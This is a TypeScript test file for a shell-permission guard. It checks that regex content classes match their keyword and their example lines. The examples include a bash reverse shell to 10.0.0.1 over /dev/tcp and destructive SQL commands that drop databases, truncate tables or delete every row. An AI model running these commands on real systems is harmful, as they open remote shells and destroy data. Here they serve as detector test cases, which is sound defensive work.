import { describe, expect, it } from 'vitest';
import { CONTENT_CLASSES } from '../../src/permissions/immune-shell.js';

// perf35 (issue 31): a content class's regex runs only on a line that holds its `needs` word, so the word must
// be one every match holds: the regex's every top-level alternative starts with it (after \b), and the regex
// is /i (the guard lower-cases the line).
function topLevelAlternatives(source: string): string[] {
  const parts: string[] = [];
  let depth = 0;
  let inClass = false;
  let start = 0;
  for (let at = 0; at < source.length; at += 1) {
    const char = source[at];
    if (char === '\\') at += 1;
    else if (inClass) inClass = char !== ']';
    else if (char === '[') inClass = true;
    else if (char === '(') depth += 1;
    else if (char === ')') depth -= 1;
    else if (char === '|' && depth === 0) {
      parts.push(source.slice(start, at));
      start = at + 1;
    }
  }
  return [...parts, source.slice(start)];
}

const unescaped = (source: string) => source.replace(/\\(.)/g, '$1');

describe('content class guards', () => {
  it.each(CONTENT_CLASSES.map((cls) => [cls.name, cls] as const))('%s: every match holds its word', (_, cls) => {
    expect(cls.regex.flags).toContain('i');
    expect(cls.needs).toBe(cls.needs.toLowerCase());
    for (const alternative of topLevelAlternatives(cls.regex.source)) {
      expect(unescaped(alternative.replace(/^\\b/, '')).toLowerCase().startsWith(cls.needs), alternative).toBe(true);
    }
  });

  it('match the classes\' examples, in any case', () => {
    const examples: Record<string, string[]> = {
      'dev-tcp': ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'cat < /DEV/UDP/1.2.3.4/53'],
      'sql-drop': ['psql -c "DROP TABLE users"', 'psql <<EOF\ndrop database prod;\nEOF', 'x "DrOp   Schema s"'],
      'sql-truncate': ['mysql -e "truncate table orders"', 'psql -c "truncate only t, u restart identity cascade;"', 'mysql -e "TRUNCATE db.t"'],
      'sql-delete-all': ['sqlite3 app.db "DELETE FROM users WHERE 1=1"', 'sqlite3 app.db "delete from users;"', 'x "Delete From t"'],
    };
    for (const cls of CONTENT_CLASSES) {
      for (const line of examples[cls.name] ?? []) {
        expect(cls.regex.test(line), line).toBe(true);
        expect(line.toLowerCase().includes(cls.needs), line).toBe(true);
      }
    }
    expect(Object.keys(examples).sort()).toEqual(CONTENT_CLASSES.map((cls) => cls.name).sort());
  });
});
